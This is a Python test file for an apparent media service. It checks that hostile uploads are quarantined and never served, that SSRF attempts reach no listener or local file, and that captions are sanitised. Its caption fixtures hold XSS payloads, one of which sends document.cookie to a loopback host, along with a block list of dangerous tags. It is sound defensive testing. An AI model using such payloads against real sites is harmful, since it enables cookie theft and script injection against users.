"""Hostile files uploaded through the REST API end Quarantined with a specific reason (or
are refused with a 4xx up front), with no 5xx, no operator error, no worker past its
limits and nothing of them served; the SSRF vectors reach no listener and read no local
file. Hostile captions are refused or sanitised. Each outcome goes into the summary."""

from __future__ import annotations

import os
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from mediaplane.core import keys
from mediaplane.devcluster.cluster import DevCluster
from tests.attacks.test_auth_attacks import Listener
from tests.support.api import ApiUser, error_code, post_form
from tests.support.assets import Assets
from tests.support.hostile import Hostile, build
from tests.support.media import Media
from tests.support.summary import LEDGER
from tests.support.wait import eventually

UserFactory = Callable[..., ApiUser]
SETTLE_SECONDS = 240.0


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A local file the SSRF vectors name: it must never be opened. Its access time is
    set before its modification time, so any read moves it (even under relatime)."""
    path = tmp_path / "canary.txt"
    path.write_text("CANARY-7f3a9e contents nobody may read\n")
    os.utime(path, (time.time() - 86_400, time.time()))
    return path


def test_hostile_media_is_quarantined_and_never_served(
        make_tenant: Callable[..., str], make_user: UserFactory, assets: Assets,
        cluster: DevCluster, clip: Media, tmp_path: Path, listener: Listener,
        canary: Path) -> None:
    corpus = build(tmp_path, clip.data, listener.port, canary)
    assert len(corpus) >= 25
    alice = make_user(make_tenant(), "alice")
    operator_log = cluster.logs_dir / "operator.log"
    log_start = operator_log.stat().st_size
    atime = canary.stat().st_atime

    uploaded: dict[str, Hostile] = {}
    for item in corpus:
        refusal = upload(alice, item)
        if refusal is not None:
            ok = not item.reasons and 400 <= refusal < 500
            LEDGER.hostile_file(item.name, ok)
            assert ok, f"{item.name}: upload answered {refusal}"
            continue
        uploaded[item.name] = item

    pending = dict(uploaded)
    outcomes: dict[str, dict[str, Any]] = {}
    deadline = time.monotonic() + SETTLE_SECONDS
    while pending and time.monotonic() < deadline:
        for name, item in list(pending.items()):
            response = alice.client.get(f"/api/v1/media/{asset_id_of(alice, item)}")
            assert response.status_code < 500, response.text
            asset = response.json()["data"]
            if asset["status"] in ("quarantined", "failed", "ready"):
                outcomes[name] = asset
                del pending[name]
        time.sleep(1.0)
    assert not pending, f"not settled in {SETTLE_SECONDS:.0f} s: {sorted(pending)}"

    for name, asset in outcomes.items():
        item = uploaded[name]
        asset_id = str(asset["id"])
        refused = (asset["status"] == "quarantined" and asset["quarantineReason"] in item.reasons
                   and not asset["playable"] and asset["streams"] is None
                   and not any(v.get("url") or v.get("hls") for v in asset["variants"]))
        LEDGER.hostile_file(name, refused)
        assert refused, f"{name}: {asset['status']} {asset.get('quarantineReason')}"
        stream = alice.client.get(f"/api/v1/media/{asset_id}/stream/hls/all/index.m3u8")
        assert stream.status_code in (403, 409, 451), stream.text
        # Nothing made from it is kept: the source alone (a video's lowest rung encodes in
        # the probe's pod while it checks, and is stopped there before any upload).
        only_source(assets, keys.asset_prefix(alice.tenant, asset_id), name)

    assert listener.connections == 0, "an SSRF vector reached the loopback listener"
    assert canary.stat().st_atime == atime, "a local file named by a playlist was read"
    for pod in assets.core.list_namespaced_pod(alice.tenant).items:
        for status in pod.status.container_statuses or []:
            terminated = status.state.terminated
            assert terminated is None or terminated.reason != "DeadlineExceeded", pod
        assert pod.status.reason != "DeadlineExceeded", pod.metadata.name
    with operator_log.open("rb") as handle:
        handle.seek(log_start)
        new = handle.read().decode("utf-8", "replace")
    assert "Traceback" not in new, new[-3000:]
    assert "failed with an exception" not in new, new[-3000:]


def only_source(assets: Assets, prefix: str, name: str) -> None:
    def kept() -> list[str]:
        return assets.keys_under(prefix)

    eventually(lambda: kept() == [prefix + "source"], f"{name}: only the source kept",
               timeout=60, explain=kept)


def upload(user: ApiUser, item: Hostile) -> int | None:
    """upload-url, the POST to storage, finalize; the status of a refusal, else None."""
    import hashlib

    body = {"sha256": hashlib.sha256(item.data).hexdigest(), "sizeBytes": len(item.data),
            "mime": item.mime, "filename": "upload.bin"}
    grant = user.client.post("/api/v1/media/upload-url", json=body)
    if grant.status_code != 200:
        error_code(grant)  # the contract's envelope
        return grant.status_code
    data = grant.json()["data"]
    etag = post_form(data, item.data, "upload.bin")
    done = user.client.post(f"/api/v1/media/{data['assetId']}/finalize", json={"etag": etag})
    if done.status_code != 200:
        return done.status_code
    return None


def asset_id_of(user: ApiUser, item: Hostile) -> str:
    import hashlib

    from mediaplane.api.routers.uploads import dedup_asset_id

    return dedup_asset_id(user.tenant, hashlib.sha256(item.data).hexdigest())


# --- captions -------------------------------------------------------------------------------

HOSTILE_VTT = """WEBVTT

00:00:00.000 --> 00:00:01.000
<script>fetch('http://127.0.0.1:1/'+document.cookie)</script>Hello <b>there</b>

00:00:01.000 --> 00:00:02.000
<img src=x onerror=alert(1)><i>it</i> & <c.yellow>fine</c> 1 < 2
"""
HOSTILE_SRT = """1
00:00:00,000 --> 00:00:01,000
<font color="red">red</font><iframe src="javascript:alert(1)"></iframe>

2
00:00:01,000 --> 00:00:02,000
<a href="http://127.0.0.1:1/">link</a> <svg onload=alert(1)>
"""


def test_hostile_captions_are_sanitised_or_refused(make_tenant: Callable[..., str],
                                                   make_user: UserFactory,
                                                   audio: Media) -> None:
    alice = make_user(make_tenant(), "alice")
    asset_id = alice.upload(audio)
    path = f"/api/v1/media/{asset_id}/captions"

    for name, content, language in (("WebVTT with HTML and script", HOSTILE_VTT, "en"),
                                    ("SubRip with HTML and script", HOSTILE_SRT, "fr")):
        response = alice.client.post(path, json={"language": language, "content": content})
        assert response.status_code == 201, response.text
        stored = httpx.get(response.json()["data"]["url"], timeout=30).text
        clean = all(bad not in stored.lower() for bad in
                    ("<script", "<img", "<iframe", "<a ", "<svg", "<font", "onerror", "onload",
                     "javascript:"))
        LEDGER.hostile_file(f"caption: {name}", clean)
        assert clean, stored
        assert stored.startswith("WEBVTT")

    refusals = {
        "caption: a 10 MB single cue": ("WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n"
                                        + "x" * 10_000_000 + "\n", 413),
        "caption: a 1 MB single cue": ("WEBVTT\n\n00:00:00.000 --> 00:00:01.000\n"
                                       + "x" * 1_000_000 + "\n", 422),
        "caption: a cue ending before it starts": (
            "WEBVTT\n\n00:00:05.000 --> 00:00:01.000\nback in time\n", 422),
        "caption: timestamps out of range": (
            "WEBVTT\n\n00:99:99.999 --> 01:00:00.000\nno such time\n", 422),
        "caption: SubRip with garbage timestamps": (
            "1\n00:00:xx,000 --> yy\nbroken\n", 422),
    }
    for name, (content, status) in refusals.items():
        response = alice.client.post(path, json={"language": "de", "content": content})
        ok = response.status_code == status
        LEDGER.hostile_file(name, ok)
        assert ok, f"{name}: {response.status_code} {response.text[:200]}"
    assert alice.get(asset_id)["status"] in ("processing", "ready")
